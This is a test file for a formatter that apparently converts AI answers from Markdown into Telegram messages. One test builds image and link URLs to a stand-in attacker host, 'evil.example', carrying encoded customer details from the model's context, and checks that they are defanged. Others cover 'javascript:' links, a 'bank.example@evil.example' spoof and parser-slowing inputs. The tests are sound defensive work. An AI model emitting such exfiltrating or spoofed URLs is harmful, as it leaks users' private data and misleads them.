import fc from 'fast-check';
import { expect, test } from 'vitest';
import { type FormatOptions, formatAnswer } from './index.ts';

/** Each part with its entities in brackets: [bold:text]. */
async function shown(markdown: string, options: FormatOptions = {}) {
  return (await formatAnswer({ markdown }, options)).map(marked);
}
const marked = ({ text, entities }: Awaited<ReturnType<typeof formatAnswer>>[number]) => {
  const opens = new Map<number, string>();
  const closes = new Map<number, string>();
  for (const entity of entities) {
    const end = entity.offset + entity.length;
    const detail =
      entity.type === 'text_link' ? ` ${entity.url}` : entity.type === 'pre' ? ` ${entity.language ?? ''}` : '';
    opens.set(entity.offset, `${opens.get(entity.offset) ?? ''}[${entity.type}${detail}:`);
    closes.set(end, `${closes.get(end) ?? ''}]`);
  }
  let out = '';
  for (let at = 0; at <= text.length; at++) out += (closes.get(at) ?? '') + (opens.get(at) ?? '') + (text[at] ?? '');
  return out;
};

test('headings, emphasis and code look as they should, and code is never inside of bold', async () => {
  expect(await shown('# Title\n\nSome **bold *both* `code` end** and ~~gone~~ ~one~.')).toEqual([
    '[bold:Title]\n\nSome [bold:bold [italic:both] ][code:code][bold: end] and [strikethrough:gone] ~one~.',
  ]);
});

test('lists keep their marks, numbers, levels and boxes', async () => {
  expect(await shown('- one\n- two\n  1. three\n  2. four\n- [x] done\n- [ ] open')).toEqual([
    '• one\n• two\n  1. three\n  2. four\n☑ done\n☐ open',
  ]);
});

test('quotes and code are blocks, with the language of the code', async () => {
  expect(await shown('> said **so**\n> > before\n\n```ts\n  const a = `1`;\n```')).toEqual([
    '[blockquote:said [bold:so]\n\nbefore]\n\n[pre ts:  const a = `1`;]',
  ]);
});

test('a narrow table is aligned, a wide one is lines', async () => {
  expect(await shown('| Товар | Qty |\n|---|--:|\n| 配送 | 3 |\n| Tea | 12 |')).toEqual([
    '[pre :Товар | Qty\n------+----\n配送  |   3\nTea   |  12]',
  ]);
  expect(
    await shown('| Name | What it is good for in the long run |\n|-|-|\n| Tea | **Drinking** |\n| Sand | Building |'),
  ).toEqual([
    '[bold:Name:] Tea\n[bold:What it is good for in the long run:] [bold:Drinking]\n\n[bold:Name:] Sand\n[bold:What it is good for in the long run:] Building',
  ]);
});

test('raw HTML is text, but for the line break of tables', async () => {
  expect(await shown('<b>a</b> b<br>c')).toEqual(['<b>a</b> b\nc']);
});

test('a link shows where it goes, unless its words say it', async () => {
  expect(
    await shown('[here](https://evil.example/a) [docs.example](https://docs.example/b) https://x.example/c'),
  ).toEqual([
    '[text_link https://evil.example/a:here (evil.example)] [text_link https://docs.example/b:docs.example] [text_link https://x.example/c:https://x.example/c]',
  ]);
  expect(await shown('[https://bank.example](https://bank.example@evil.example/)')).toEqual([
    '[text_link https://evil.example/:https://bank.example (evil.example)]',
  ]);
});

test('only http, https, tg and mailto become links; the rest is text', async () => {
  expect(await shown('[a](javascript:alert) [b](/local) [c](tg://resolve?domain=d) [e](mailto:f@g.example)')).toEqual([
    'a (javascript:alert) b (/local) [text_link tg://resolve?domain=d:c (tg://resolve?domain=d)] e f@g.example',
  ]);
});

test.each([
  'tg://',
  'tg://a.b/c',
  'http://www.ex`ample.com/',
  'http://a.b:0/',
  'http://localhost:3000/',
  'mailto:',
  ' ',
])('an address that Telegram refuses (%j) is text', async (address) => {
  expect(await shown(`[words](<${address}>)`)).toEqual([address.trim() === '' ? 'words' : `words (${address})`]);
});

test('images are their description and a link, references are resolved, also across a long answer', async () => {
  const [first] = await shown('![a map][m] ![](https://i.example/x.png)\n\n[m]: https://maps.example/1');
  expect(first).toBe(
    '[text_link https://maps.example/1:a map (maps.example)] [text_link https://i.example/x.png:i.example]',
  );
  const long = `[the map][m]\n\n${'word '.repeat(9_000)}\n\n[m]: https://maps.example/1`;
  expect((await shown(long))[0]).toMatch(/^\[text_link https:\/\/maps\.example\/1:the map \(maps\.example\)\]/);
});

test('an address that carries a piece of what the model was given to read cannot be followed', async () => {
  const context =
    'The customer is called Erika Mustermann-Schneider. See https://docs.example/guides/customer-is-called-erika for more.';
  const stolen = 'The customer is called Erika Mustermann';
  for (const carried of [
    encodeURIComponent(stolen),
    stolen.replaceAll(' ', '-'),
    Buffer.from(stolen).toString('base64url'),
    Buffer.from(stolen).toString('hex'),
  ]) {
    const [part] = await formatAnswer(
      { markdown: `![logo](https://evil.example/pixel?d=${carried}) and evil.example/x/${carried}` },
      { context },
    );
    expect(part?.entities).toEqual([]);
    expect(part?.text).toContain('hxxps://evil[.]example/');
    expect(part?.text).not.toMatch(/evil\.example/);
  }
  expect(await shown('[guide](https://docs.example/guides/customer-is-called-erika)', { context })).toEqual([
    '[text_link https://docs.example/guides/customer-is-called-erika:guide (docs.example)]',
  ]);
});

test('sources stand in an expandable quote at the end, then the note', async () => {
  const sources = [
    { number: 1, title: 'Handbook', page: 3, host: 'docs.example' },
    { number: 2, title: 'Prices' },
  ];
  const parts = await formatAnswer({ markdown: 'Yes [1].', sources, sourcesTitle: 'Sources', note: 'Stopped' });
  expect(parts.map(marked)).toEqual([
    'Yes [1].\n\n[expandable_blockquote:[bold:Sources]\n1. Handbook, p. 3, docs.example\n2. Prices]\n\n[italic:Stopped]',
  ]);
});

test('plain text is left as it is, and nothing to see is nothing to send', async () => {
  expect(await formatAnswer({ markdown: '**no** [x](https://y.example)\n  1. z', plain: true })).toEqual([
    { text: '**no** [x](https://y.example)\n  1. z', entities: [] },
  ]);
  for (const markdown of ['', ' \n', '[a]: https://b.example', '\u200b\n\u2060', '```\n```'])
    expect(await formatAnswer({ markdown })).toEqual([]);
});

test('code that is empty leaves no line breaks in front of the message', async () => {
  expect(await shown('```\n\n\n```\n\nafter\n\n    code')).toEqual(['after\n\n[pre :code]']);
});

test('a long answer is cut at paragraphs, and what lies over a cut goes on with its look', async () => {
  const paragraph = `${'Word '.repeat(300).trim()}.`;
  const parts = await formatAnswer({ markdown: Array.from({ length: 8 }, () => paragraph).join('\n\n') });
  expect(parts.map(({ text }) => text.split('\n\n').length)).toEqual([2, 2, 2, 2]);

  const code = Array.from({ length: 400 }, (_, line) => `    line ${line} 😀;`).join('\n');
  const ofCode = await formatAnswer({ markdown: `\`\`\`py\n${code}\n\`\`\`` });
  expect(ofCode.length).toBeGreaterThan(1);
  expect(ofCode.map(({ text }) => text).join('\n')).toBe(code);
  for (const { text, entities } of ofCode) {
    expect(text.length).toBeLessThanOrEqual(4_096);
    expect(entities).toEqual([{ type: 'pre', language: 'py', offset: 0, length: text.length }]);
  }
});

test('a text with more than a hundred marks is sent in more parts, and loses none', async () => {
  const parts = await formatAnswer({ markdown: Array.from({ length: 250 }, (_, at) => `**${at}**`).join(' ') });
  expect(parts.map(({ entities }) => entities.length)).toEqual([100, 100, 50]);
});

test('a long table keeps the names of its columns', async () => {
  const rows = Array.from({ length: 400 }, (_, at) => `| row ${at} | a value that makes it wide, number ${at} |`);
  const parts = await formatAnswer({ markdown: ['| Row | Value |', '|---|---|', ...rows].join('\n') });
  const text = parts.map((part) => part.text).join('\n');
  expect(text.match(/Row: row \d+/g)).toHaveLength(400);
  expect(text).not.toContain('|');
});

/** What makes parsers of Markdown slow or deep (T23). */
const bombs = [
  '[',
  '![',
  '>',
  '> ',
  '- ',
  '1. ',
  '1. 1. ',
  '*',
  'a*',
  '_a ',
  '**a *b ',
  '`',
  '`a',
  '~',
  '<',
  '<a ',
  '&',
  ']',
  '[a](',
  '[a][',
  '|',
  '| a ',
  'a|b\n-|-\n',
  '\\',
  '\n',
  'a  \n',
  '[^a]',
  '[a]: b\n',
  '- a\n',
  '- a\n  ',
  '> a\n>> b\n',
  '> ```\n>>>>>>>>>>>>>>>>>>>>>>>>>>>>>>\n',
  'a\n=\n',
  'www.a.b ',
  'a@b.c ',
  'https://a.example/b?c=ddddddddddddddddddddddddddddddddddddddd ',
];

/** A deadline, five times the 50 ms of security.md T23: it meets what never lets others run, not what is somewhat slower than it should be. */
const deadlineMs = 5 * 50;

test.each([...bombs.map((bomb) => [8_000, bomb] as const), [50_000, '['] as const, [50_000, '>'] as const])(
  '%i characters of %j keep nobody waiting for a quarter of a second, and take about as long as a tenth of them ten times',
  async (length, bomb) => {
    const others = measureOthers();
    await formatAnswer({ markdown: bomb.repeat(length / bomb.length) }, { context: 'Some context. '.repeat(2_000) });
    expect(await others()).toBeLessThan(deadlineMs);

    const tenth = bomb.repeat(length / 10 / bomb.length);
    let [wholeMs, tenthsMs] = [Number.POSITIVE_INFINITY, Number.POSITIVE_INFINITY];
    // What grows with the square takes ten times as long. The quickest of five: what the machine does beside it is not ours.
    for (let tries = 0; tries < 5 && !(wholeMs < 4 * tenthsMs); tries++) {
      tenthsMs = Math.min(tenthsMs, await msOf(Array.from({ length: 10 }, () => tenth)));
      wholeMs = Math.min(wholeMs, await msOf([tenth.repeat(10)]));
    }
    expect(wholeMs).toBeLessThan(4 * tenthsMs);
  },
);

async function msOf(texts: string[]): Promise<number> {
  const startedMs = performance.now();
  for (const markdown of texts) await formatAnswer({ markdown });
  return performance.now() - startedMs;
}

test('a megabyte of marks keeps nobody else waiting for a quarter of a second', async () => {
  const others = measureOthers();
  const parts = await formatAnswer({ markdown: '**a** [b](c) `d`\n'.repeat(65_536) });
  expect(parts.length).toBeGreaterThan(200);
  expect(await others()).toBeLessThan(deadlineMs);
});

/** The longest time that this thread computed without letting others run, in milliseconds of its own, whatever else the machine does. */
function measureOthers(): () => Promise<number> {
  let longest = 0;
  let isOver = false;
  const used = () => {
    const { user, system } = process.threadCpuUsage();
    return (user + system) / 1_000;
  };
  let last = used();
  const look = () => {
    const now = used();
    longest = Math.max(longest, now - last);
    last = now;
    if (!isOver) setImmediate(look);
  };
  setImmediate(look);
  return async () => {
    await new Promise((resolve) => setImmediate(resolve));
    isOver = true;
    return longest;
  };
}

test('one line of mere words is not parsed, and reads as if it had been', async () => {
  // A definition shows nothing, and its line makes a document of the text that has to be parsed.
  const parsed = (line: string) => shown(`${line}\n\n[unused]: https://example.com`);
  const piece = fc.constantFrom(
    'word',
    'Слово',
    '12',
    '1.',
    '3)',
    '-',
    '+',
    '=',
    '.',
    ',',
    ' ',
    '  ',
    '(',
    ')',
    "'",
    ':',
    '/',
    '😀',
    '…',
    '$',
    '%',
  );
  await fc.assert(
    fc.asyncProperty(fc.array(piece, { minLength: 1, maxLength: 12 }), async (pieces) => {
      const line = pieces.join('');
      expect(await shown(line)).toEqual(await parsed(line));
    }),
    { numRuns: 2_000 },
  );
});
